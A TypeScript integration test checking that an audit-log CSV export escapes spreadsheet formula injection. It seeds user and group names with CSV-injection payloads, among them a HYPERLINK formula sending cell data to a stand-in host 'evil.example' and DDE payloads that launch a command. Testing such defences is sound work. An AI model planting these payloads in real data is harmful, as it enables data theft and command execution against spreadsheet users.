// Database-backed through ../integration/stack (test/helpers/test-database).
import type { JobStarted, Plan } from "../../src/shared/api-contract";
import { startStack, type Seed, type Stack } from "../integration/stack";

/** Display names an attacker picks in their Atlassian profile so that an admin's spreadsheet runs them. */
const NAMES: Record<string, string> = {
  eq: "=HYPERLINK(\"http://evil.example/?\"&A1)", plus: "+1+cmd|' /C calc'!A0", minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0", tab: "\t=1+1", cr: "\r=1+1",
};

const seed: Seed = (ws) => {
  for (const [nick, name] of Object.entries(NAMES)) ws.withUser(nick, { display_name: name });
  return ws.withGroup("evil", { name: "=cmd|' /C calc'!A0" }).withProject("CSV", { repos: 1 });
};

/** RFC 4180 cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === "\"" && text[i + 1] === "\"") { cell += "\""; i++; } else if (c === "\"") quoted = false; else cell += c;
    } else if (c === "\"") quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; } else if (c === "\r" && text[i + 1] === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; i++; } else cell += c;
  }
  if (cell !== "" || row.length > 0) { row.push(cell); rows.push(row); }
  return rows;
}

describe("CSV export of the audit log", () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack({ seed });
    const principals = [...Object.keys(NAMES).map((n) => ({ type: "user", id: stack.acme.uuidOf(n) })), { type: "group", slug: "evil" }];
    for (const principal of principals) {
      const plan = (await stack.owner.post("/api/projects/CSV/plans", { principal, permission: "read", scope: "repositories" }).expect(201)).body as Plan;
      const { jobId } = (await stack.owner.post(`/api/plans/${plan.id}/apply`).expect(202)).body as JobStarted;
      await stack.waitForJob(jobId);
    }
  });
  afterAll(async () => { await stack.close(); });

  test("When names start with =, +, -, @, tab or CR, then every such cell is prefixed with ' and no cell starts with a formula character", async () => {
    const res = await stack.owner.get("/api/audit?project=CSV&format=csv").expect(200);
    expect(res.headers["content-type"]).toMatch(/^text\/csv/);
    expect(res.headers["content-disposition"]).toMatch(/^attachment;/);
    const rows = parseCsv(res.text);
    expect(rows).toHaveLength(1 + Object.keys(NAMES).length + 1);
    const cells = rows.flat();
    for (const name of [...Object.values(NAMES), "=cmd|' /C calc'!A0"]) expect(cells).toContain(`'${name}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
